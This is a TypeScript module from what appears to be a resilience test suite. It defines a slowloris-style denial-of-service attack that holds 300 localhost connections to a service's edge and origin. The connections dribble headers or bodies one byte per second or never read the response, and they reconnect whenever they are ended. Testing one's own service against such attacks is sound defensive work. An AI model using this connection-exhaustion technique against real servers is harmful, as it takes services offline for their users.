import { connect } from "node:net";
import { systemClock } from "../../../../shared/clock.ts";
import type { Attack } from "../attack.ts";
import { attackersAddress } from "../requests.ts";

/** At each program; both together are the bound of this attack, 300. */
const CONNECTIONS = 150;
/** A byte each, far slower than any client has reason to be. */
const DRIBBLE_MS = 1_000;
/** Who was ended comes again. */
const AGAIN_MS = 100;

export const attack: Attack = {
  row: 11,
  title: "300 connections that dribble headers, dribble bodies, or take no answer",
  holds: "read token",
  run: async ({ edgeUrl, originUrl, tokens }, signal) => {
    const what: Record<string, number> = {};
    const begin = [
      "GET /health HTTP/1.1\r\nHost: a\r\nX-A: ",
      "POST /v2/content/ HTTP/1.1\r\nHost: a\r\nContent-Length: 10000\r\n\r\n",
      `GET /v2/content/?keys=countries&page_size=100&levels=2 HTTP/1.1\r\nHost: a\r\nAuthorization: Token ${tokens.read}\r\n\r\n`,
    ];
    const hold = async (number: number) => {
      const kind = number % begin.length;
      while (!signal.aborted) {
        const url = number % 2 === 0 ? edgeUrl : originUrl;
        const how = await holdOne(url, begin[kind] ?? "", kind === 2, signal);
        what[how] = (what[how] ?? 0) + 1;
        await systemClock.sleep(AGAIN_MS, signal);
      }
    };
    await Promise.all(Array.from({ length: 2 * CONNECTIONS }, (_, number) => hold(number)));
    return { what };
  },
};

/** Holds one connection for as long as it lasts. @returns the status it was given, or how it ended */
function holdOne(
  url: string,
  bytes: string,
  takesNothing: boolean,
  signal: AbortSignal,
): Promise<string> {
  const localAddress = attackersAddress ?? "127.0.0.1";
  const socket = connect({ port: Number(new URL(url).port), host: "127.0.0.1", localAddress });
  if (takesNothing) socket.pause();
  return new Promise((resolve) => {
    const timer = setInterval(() => void (takesNothing || socket.write("a")), DRIBBLE_MS);
    const held = () => end("held");
    const end = (how: string) => {
      clearInterval(timer);
      signal.removeEventListener("abort", held);
      socket.destroy();
      resolve(how);
    };
    socket.on("data", (chunk: Buffer) => end(chunk.toString("latin1", 9, 12)));
    socket.on("error", () => end("closed"));
    socket.on("close", () => end("closed"));
    signal.addEventListener("abort", held, { once: true });
    socket.write(bytes, "latin1");
  });
}
